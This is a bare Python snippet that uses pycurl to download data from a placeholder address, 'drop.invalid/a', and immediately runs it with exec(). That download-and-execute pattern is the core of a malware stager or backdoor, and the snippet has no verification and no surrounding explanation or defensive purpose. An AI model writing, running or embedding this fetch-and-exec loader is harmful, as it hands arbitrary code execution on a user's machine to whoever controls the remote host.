import io

import pycurl

held = io.BytesIO()
handle = pycurl.Curl()
handle.setopt(handle.URL, "https://drop.invalid/a")
handle.setopt(handle.WRITEDATA, held)
handle.perform()
exec(held.getvalue().decode())
